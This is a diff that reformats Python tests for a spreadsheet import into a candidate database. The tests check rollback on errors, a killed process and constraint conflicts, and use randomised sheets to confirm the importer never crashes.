-def test_an_error_halfway_leaves_the_database_unchanged(db: Database, tmp_path: Path,
-                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_error_halfway_leaves_the_database_unchanged(
+    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     add_candidate(db, full_name="Old", email="old@example.edu")
     target = add_target(db)
     before = state(db)
@@ -514,8 +707,9 @@ def test_an_error_halfway_leaves_the_database_unchanged(db: Database, tmp_path: 
             raise RuntimeError("disk on fire")
 
     with pytest.raises(RuntimeError, match="disk on fire"):
-        importing.run_import(db, path, ImportOptions(target_id=target, on_duplicate="update"),
-                             progress=progress)
+        importing.run_import(
+            db, path, ImportOptions(target_id=target, on_duplicate="update"), progress=progress
+        )
     assert state(db) == before
     assert seen[-1][0] < seen[-1][1]
 
@@ -541,7 +735,8 @@ def test_a_killed_process_leaves_the_database_unchanged(db: Database, tmp_path: 
         "    if done > total // 2 + 60:\n"
         f"        open({str(marker)!r}, 'w').close()\n"
         "        time.sleep(60)\n"
-        f"importing.run_import(db, {str(path)!r}, progress=progress)\n")
+        f"importing.run_import(db, {str(path)!r}, progress=progress)\n"
+    )
     proc = subprocess.Popen([sys.executable, "-c", code], cwd=Path(__file__).parents[2])
     try:
         deadline = time.monotonic() + 30
@@ -567,14 +762,24 @@ def test_cancel_rolls_back(db: Database, tmp_path: Path, monkeypatch: pytest.Mon
 
 
 def test_a_constraint_violation_is_explained_and_rolled_back(
-        db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     before = state(db)
     real = importing._Checker.load_index
     # Simulate another writer that stored the same e-mail after the checks were made.
-    monkeypatch.setattr(importing._Checker, "load_index", lambda self: (
-        real(self), self.conn.execute(text(
-            "INSERT INTO candidate (full_name, email, created_at, updated_at) VALUES "
-            "('Ghost', 'a@example.edu', '2024-01-01', '2024-01-01')")))[0])
+    monkeypatch.setattr(
+        importing._Checker,
+        "load_index",
+        lambda self: (
+            real(self),
+            self.conn.execute(
+                text(
+                    "INSERT INTO candidate (full_name, email, created_at, updated_at) VALUES "
+                    "('Ghost', 'a@example.edu', '2024-01-01', '2024-01-01')"
+                )
+            ),
+        )[0],
+    )
     with pytest.raises(ConflictError, match="Nothing was imported"):
         importing.run_import(db, sheet(tmp_path, [person("A", "a@example.edu")]))
     assert state(db) == before
@@ -583,22 +788,63 @@ def test_a_constraint_violation_is_explained_and_rolled_back(
 # --- random sheets -----------------------------------------------------------------------------
 
 _cells = st.one_of(
-    st.none(), st.text(max_size=12), st.integers(-10, 3000), st.floats(allow_nan=False,
-                                                                        allow_infinity=False),
-    st.sampled_from(["张伟", "a@b.cn", "A@B.CN", "0000-0002-1825-0097", "2024-05-01", "=1+1",
-                     "Fudan", "1980.05", " ", "05/06/2024", "https://orcid.org/0000-0002-1694-233X"]),
-    st.dates(date(1890, 1, 1), date(2100, 1, 1)))
-_headers = st.lists(st.sampled_from(["姓名", "Name", "Email", "邮箱", "ORCID", "h-index",
-                                     "博士毕业年份", "出生日期", "现工作单位", "电话", "x", ""]),
-                    min_size=1, max_size=6)
+    st.none(),
+    st.text(max_size=12),
+    st.integers(-10, 3000),
+    st.floats(allow_nan=False, allow_infinity=False),
+    st.sampled_from(
+        [
+            "张伟",
+            "a@b.cn",
+            "A@B.CN",
+            "0000-0002-1825-0097",
+            "2024-05-01",
+            "=1+1",
+            "Fudan",
+            "1980.05",
+            " ",
+            "05/06/2024",
+            "https://orcid.org/0000-0002-1694-233X",
+        ]
+    ),
+    st.dates(date(1890, 1, 1), date(2100, 1, 1)),
+)
+_headers = st.lists(
+    st.sampled_from(
+        [
+            "姓名",
+            "Name",
+            "Email",
+            "邮箱",
+            "ORCID",
+            "h-index",
+            "博士毕业年份",
+            "出生日期",
+            "现工作单位",
+            "电话",
+            "x",
+            "",
+        ]
+    ),
+    min_size=1,
+    max_size=6,
+)
 
 
-@settings(max_examples=25, deadline=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
-@given(head=_headers, body=st.lists(st.lists(_cells, max_size=7), max_size=8),
-       mode=st.sampled_from(importing.ON_DUPLICATE), as_csv=st.booleans())
-def test_random_sheets_never_crash(db: Database, tmp_path: Path, head: list[str],
-                                   body: list[list[Any]], mode: str, as_csv: bool) -> None:
+@settings(
+    max_examples=25,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(
+    head=_headers,
+    body=st.lists(st.lists(_cells, max_size=7), max_size=8),
+    mode=st.sampled_from(importing.ON_DUPLICATE),
+    as_csv=st.booleans(),
+)
+def test_random_sheets_never_crash(
+    db: Database, tmp_path: Path, head: list[str], body: list[list[Any]], mode: str, as_csv: bool
+) -> None:
     if as_csv:
         import csv
 
